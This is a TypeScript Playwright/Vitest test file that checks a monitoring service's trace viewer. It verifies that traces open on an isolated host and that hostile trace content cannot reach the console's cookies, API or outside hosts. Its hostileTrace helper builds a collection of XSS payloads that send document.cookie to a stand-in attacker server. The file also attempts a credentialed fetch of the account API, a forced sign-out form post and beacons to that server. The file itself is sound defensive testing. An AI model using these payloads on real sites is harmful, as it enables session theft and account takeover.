import { readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { tries } from "../attacks/cases.ts";
import type { Browser } from "../control-plane/console/browser.ts";
import { firstOwner } from "../control-plane/console/people.ts";
import { type ControlPlaneUnderTest, controlPlaneUnderTest } from "../control-plane/control-plane-under-test.ts";
import { FakeAgent, reportOf } from "../control-plane/fake-agent.ts";
import { checkDetails } from "../support/check-details.ts";
import { noChromium, type WatchedBrowser, watchedBrowser } from "../support/chromium.ts";
import { freePort } from "../support/free-ports.ts";
import { httpServer } from "../support/http-servers/http-server.ts";
import { zipFile } from "../support/zip-file.ts";
import { signedIn } from "./signed-in.ts";

const host = "traces.localhost";

describe.skipIf(noChromium !== null)("the viewer of traces in a real browser", { timeout: 180_000 }, () => {
  const made = new AsyncDisposableStack();
  let plane: ControlPlaneUnderTest;
  let browser: WatchedBrowser;
  let owner: Browser;
  let agent: FakeAgent;
  beforeAll(async () => {
    const port = await freePort();
    const env = { PORT: String(port), TRACE_VIEWER_URL: `http://${host}:${port}` };
    [plane, browser] = await Promise.all([controlPlaneUnderTest(env), watchedBrowser([host])]);
    made.use(plane);
    made.use(browser);
    owner = await firstOwner(plane);
    const able = { checkTypes: ["BROWSER"], runtimes: ["2026.04"], sandboxLevel: 2 };
    agent = await FakeAgent.open(plane.base, await plane.locationKey("eu-west-1"), able);
  });
  afterAll(() => made.disposeAsync());

  /** The page of a result with this trace. */
  async function resultWith(trace: Buffer): Promise<string> {
    const body = { name: "shop", script: "1", locations: ["eu-west-1"], frequency: 1440 };
    const { id } = (await plane.call("POST", "/v1/checks/browser", { body })).body;
    await plane.call("POST", "/v1/check-sessions/trigger", { body: { target: { checkId: id } } });
    const [job] = await agent.lease(1, 5);
    const detail = { ...checkDetails.BROWSER, playwrightTestTraces: ["trace-1.zip"] };
    const evidence = [{ name: "trace-1.zip", type: "log", contentType: "application/zip", data: trace.toString("base64") }] as const;
    await agent.report(reportOf(job!, { detail, evidence: [...evidence] }));
    return `/checks/${id}/results/${(await plane.call("GET", `/v2/check-results/${id}?limit=1`)).body.entries[0].id}`;
  }

  /** Real, of a page with a button that is clicked. */
  async function someTrace(): Promise<Buffer> {
    await using target = await httpServer((_request, response) => {
      response.setHeader("content-type", "text/html");
      response.end("<title>Shop</title><h1>The Book of Tides</h1><button onclick=\"this.textContent = 'Bought'\">Buy</button>");
    });
    const context = await browser.reader();
    await context.tracing.start({ snapshots: true });
    const page = await context.newPage();
    await page.goto(target.url);
    await page.getByRole("button", { name: "Buy" }).click();
    const file = join(tmpdir(), `outpost-trace-${crypto.randomUUID()}.zip`);
    await context.tracing.stop({ path: file });
    await context.close();
    browser.takeTroubles();
    const bytes = await readFile(file);
    await rm(file);
    return bytes;
  }

  async function open(context: BrowserContext, result: string): Promise<Page> {
    const page = await context.newPage();
    await page.goto(result);
    const [viewer] = await Promise.all([context.waitForEvent("page"), page.getByRole("link", { name: "Open trace" }).click()]);
    await viewer.waitForLoadState();
    return viewer;
  }

  it("opens a trace from the page of its result, with its actions and the page as it was, and asks nobody else", async () => {
    const context = await signedIn(browser, plane.base, owner);
    const hosts = new Set<string>();
    context.on("request", (request) => hosts.add(new URL(request.url()).hostname));
    const viewer = await open(context, await resultWith(await someTrace()));
    expect(new URL(viewer.url()).host).toBe(`${host}:${new URL(plane.base).port}`);
    await viewer.getByRole("treeitem", { name: /Click/ }).click();
    const shown = viewer.frameLocator("iframe.snapshot-visible");
    await shown.getByRole("heading", { name: "The Book of Tides" }).waitFor();
    await viewer.getByRole("tab", { name: "After" }).click();
    await shown.getByRole("button", { name: "Bought" }).waitFor();
    expect(await viewer.evaluate("[document.cookie, window.opener]")).toEqual(["", null]);
    expect(browser.takeTroubles()).toEqual([]);
    expect([...hosts]).toEqual(["127.0.0.1", host]);
    await context.close();
  });

  it("lets nothing that a trace carries reach the console, its cookies, its API or anybody else", {
    ...tries("S13", "a host of its own, and a policy on each answer of the viewer's worker"),
  }, async () => {
    const asked: string[] = [];
    await using attacker = await httpServer((request, response) => {
      asked.push(request.url ?? "");
      response.setHeader("access-control-allow-origin", "*").end("got it");
    });
    const context = await signedIn(browser, plane.base, owner);
    const viewer = await open(context, await resultWith(hostileTrace(attacker.url)));
    await viewer.getByRole("treeitem", { name: /Navigate/ }).click();
    await viewer.frameLocator("iframe.snapshot-visible").getByRole("heading", { name: "Harmless" }).waitFor();
    // As if a script of the trace ran after all, in the page of the trace and in the viewer around it.
    const attempts = `(async () => {
      const outcome = (attempt) => Promise.resolve().then(attempt).then(String, () => "refused");
      const inNewFrame = () => new Promise((resolve) => {
        const frame = document.createElement("iframe");
        frame.onload = () => resolve(frame.contentDocument === null ? "refused" : frame.contentDocument.body.textContent);
        frame.src = "${plane.base}/checks";
        document.body.append(frame);
      });
      const picture = () => new Promise((resolve, reject) => Object.assign(new Image(), { onload: resolve, onerror: reject, src: "${attacker.url}/picture" }));
      const form = Object.assign(document.createElement("form"), { action: "${plane.base}/sign-out", method: "post", target: "_blank" });
      document.body.append(form);
      form.submit();
      return [
        document.cookie,
        await outcome(() => fetch("${plane.base}/v1/account", { credentials: "include" }).then((answer) => answer.text())),
        await outcome(() => fetch("${plane.base}/checks", { credentials: "include", mode: "no-cors" }).then(() => "sent")),
        await outcome(() => fetch("${attacker.url}/fetched").then((answer) => answer.text())),
        await outcome(picture),
        await outcome(inNewFrame),
        String(navigator.sendBeacon("${attacker.url}/beacon", "x") && "queued"),
      ];
    })()`;
    const pages = [viewer.mainFrame(), viewer.frames().find((frame) => frame.url().includes("/snapshot/"))!];
    const [inViewer, inTrace] = await Promise.all(pages.map((frame) => frame.evaluate(attempts)));
    expect([inViewer, inTrace].map((outcomes) => (outcomes as string[]).slice(0, 6))).toEqual([
      ["", "refused", "refused", "refused", "refused", "refused"],
      ["", "refused", "refused", "refused", "refused", "refused"],
    ]);
    expect(asked).toEqual([]);
    expect(await context.cookies(viewer.url())).toEqual([]);
    const still = await context.newPage();
    await still.goto("/checks");
    expect(new URL(still.url()).pathname).toBe("/checks");
    browser.takeTroubles();
    await context.close();
  });
});

/** Markup that runs a script wherever a browser would run one. */
function hostileTrace(attackerUrl: string): Buffer {
  const attack = (how: string): string =>
    `fetch('${attackerUrl}/${how}?' + document.cookie); new Image().src = '${attackerUrl}/${how}.png'`;
  const html = [
    "HTML",
    {},
    [
      "HEAD",
      {},
      ["META", { "http-equiv": "refresh", content: `0; url=${attackerUrl}/refresh` }],
      ["STYLE", {}, `</style><script>${attack("style")}</script>`],
    ],
    [
      "BODY",
      { onload: attack("load") },
      ["H1", {}, "Harmless"],
      ["SCRIPT", {}, attack("script")],
      ["IMG", { src: "x", onerror: attack("error"), oNeRrOr: attack("case") }],
      ["svg", {}, ["animate", { onbegin: attack("svg"), attributeName: "x", dur: "1s" }]],
      ["IFRAME", { srcdoc: `<script>${attack("srcdoc")}</script>`, src: `javascript:${attack("address")}` }],
      ["A", { href: `javascript:${attack("link")}`, autofocus: "", onfocus: attack("focus") }, "Harmless link"],
      [`X><script>${attack("name")}</script><X`, { [`a><script>${attack("attribute")}</script`]: "" }, "<script>"],
    ],
  ];
  const common = {
    callId: "call@1",
    phase: "after",
    pageId: "page@1",
    frameId: "frame@1",
    frameUrl: "https://shop.example/",
    isMainFrame: true,
  };
  const snapshot = {
    ...common,
    doctype: `html><script>${attack("doctype")}</script>`,
    html,
    viewport: { width: 800, height: 600 },
    timestamp: 20,
    resourceOverrides: [],
  };
  const events = [
    {
      version: 10,
      type: "context-options",
      origin: "library",
      browserName: "chromium",
      options: {},
      platform: "linux",
      wallTime: 1,
      monotonicTime: 1,
      sdkLanguage: "javascript",
    },
    { type: "before", callId: "call@1", startTime: 10, class: "Frame", method: "goto", params: { url: "https://shop.example/" } },
    { type: "frame-snapshot", snapshot },
    { type: "after", callId: "call@1", endTime: 30 },
  ];
  return zipFile([
    { name: "trace.trace", content: events.map((event) => JSON.stringify(event)).join("\n") },
    { name: "trace.network", content: "" },
  ]);
}
